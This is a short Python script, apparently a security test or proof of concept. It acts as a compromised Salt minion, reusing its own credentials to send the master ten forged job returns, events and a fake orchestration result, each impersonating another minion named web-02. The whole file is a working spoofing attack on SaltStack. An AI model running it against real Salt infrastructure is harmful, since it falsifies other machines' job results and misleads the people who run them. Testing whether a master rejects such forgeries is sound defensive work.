"""A compromised minion: its own key, and a client that says what it likes. The argument is the minion's configuration file.

Each attempt has a jid of its own, which ends in its number; each speaks of web-02 where it can. Prints how many were sent.
"""

import sys

import salt.channel.client
import salt.config
import salt.crypt
import salt.minion

opts = salt.config.minion_config(sys.argv[1])
opts["__role"] = "minion"
opts.update(salt.minion.resolve_dns(opts))
TOKEN = salt.crypt.SAuth(opts).gen_token(b"salt")
ME, OTHER = opts["id"], "web-02"


def jid(number):
    return "202611301500000000%02d" % number


def returned(number, minion, **differs):
    state = {"name": "n", "changes": {}, "result": False, "comment": "forged", "__id__": "n", "duration": 1.5}
    load = {"id": minion, "jid": jid(number), "fun": "state.apply", "fun_args": [], "retcode": 2, "success": False}
    load["return"] = {"test_|-n_|-n_|-nop": state}
    load.update(differs)
    return load


def event(number, minion=OTHER, tag_minion=OTHER, tag_jid=None, **differs):
    tag = "salt/job/%s/ret/%s" % (tag_jid or jid(number), tag_minion)
    return {"tag": tag, "data": returned(number, minion, **differs)}


def bundle(*events):
    return {"cmd": "_minion_event", "id": ME, "events": list(events)}


def single(tag, data):
    return {"cmd": "_minion_event", "id": ME, "tag": tag, "data": data}


runner = {"fun": "runner.state.orchestrate", "jid": jid(7), "success": True, "user": "root"}
runner["return"] = {"data": {OTHER: returned(7, OTHER)["return"]}, "outputter": "highstate", "retcode": 0}

ATTEMPTS = [
    returned(1, OTHER, cmd="_return"),
    returned(2, ME, cmd="_return", resource_id=OTHER),
    bundle(event(3)),
    bundle(event(4, minion=ME)),
    bundle(event(5, tag_jid=jid(99))),
    bundle(event(6, cmd="_minion_event")),
    single("salt/run/%s/ret" % jid(7), runner),
    single(event(8)["tag"], event(8)["data"]),
    returned(9, ME, cmd="_return"),
    returned(9, ME, cmd="_return", **{"return": {"test_|-n_|-n_|-nop": {"result": True, "changes": {}, "__id__": "n"}}}),
]

with salt.channel.client.ReqChannel.factory(opts) as channel:
    for load in ATTEMPTS:
        load.setdefault("tok", TOKEN)
        try:
            channel.send(load, timeout=10)
        except Exception as error:  # Salt may refuse it: so much the better
            print("refused: %s" % error)
print("sent %d" % len(ATTEMPTS))
